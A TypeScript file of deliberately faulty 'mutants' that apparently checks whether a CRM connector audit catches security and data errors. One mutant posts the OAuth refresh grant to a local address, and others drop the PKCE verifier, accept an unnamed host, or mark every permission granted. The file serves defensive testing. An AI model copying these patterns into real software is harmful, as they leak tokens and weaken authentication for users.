import { changeObjects, changeRenew, renewTelling, type Mutant } from './mutant.ts';

/** Connectors that mistake the account as a whole, or what records belong to. */
export const accountMutants: readonly Mutant[] = [
  {
    audit: 'ASC-04',
    fault: 'leaves out the account that a contact is written with',
    object: 'Contact',
    mutate: changeObjects((object) => {
      const { write } = object;
      if (!write) return object;
      const { create } = write;
      const call: typeof create.call = (context, drafts) =>
        create.call(
          context,
          drafts.map((draft) => ({ ...draft, fields: { ...draft.fields, AccountId: null } })),
        );
      return { ...object, write: { ...write, create: { ...create, call } } };
    }),
  },
  {
    audit: 'AUTH-04',
    fault: 'shows its refresh token to somebody else',
    object: 'User',
    mutate: (connector) => ({
      ...connector,
      auth: {
        ...connector.auth,
        renew: async (fetch, grant) => {
          const body = JSON.stringify(grant);
          await fetch('http://127.0.0.1:9/', { method: 'POST', body }).catch(() => null);
          return connector.auth.renew(fetch, grant);
        },
      },
    }),
  },
  {
    audit: 'AUTH-04',
    fault: 'lets people in by a host that it does not name',
    object: 'User',
    mutate: (connector) => ({ ...connector, hosts: ['force.com'] }),
  },
  {
    audit: 'AUTH-05',
    fault: 'trades a code again when it is refused',
    object: 'User',
    mutate: changeRenew(
      (renew) => (fetch, grant) => renew(fetch, grant).catch(() => renew(fetch, grant)),
    ),
  },
  {
    audit: 'AUTH-05',
    fault: 'leaves out the verifier of a code',
    object: 'User',
    mutate: changeRenew(
      (renew) => (fetch, grant) =>
        renew(fetch, grant.kind === 'authorization-code' ? { ...grant, codeVerifier: '' } : grant),
    ),
  },
  {
    audit: 'AUTH-06',
    fault: 'takes a CRM under maintenance for one that refuses',
    object: 'User',
    mutate: renewTelling({ code: 'unauthorized', retry: 'never' }),
  },
  {
    audit: 'FLD-01',
    fault: 'creates every field as one that need not be unique',
    object: 'User',
    mutate: (connector) => ({
      ...connector,
      createField: async (context, field) =>
        connector.createField?.(context, { ...field, unique: false }),
    }),
  },
  {
    audit: 'PRM-01',
    fault: 'finds every permission granted',
    object: 'User',
    mutate: (connector) => ({
      ...connector,
      checkPermissions: async (context) =>
        ((await connector.checkPermissions?.(context)) ?? []).map((one) => ({
          ...one,
          state: 'granted',
          remedy: null,
        })),
    }),
  },
];
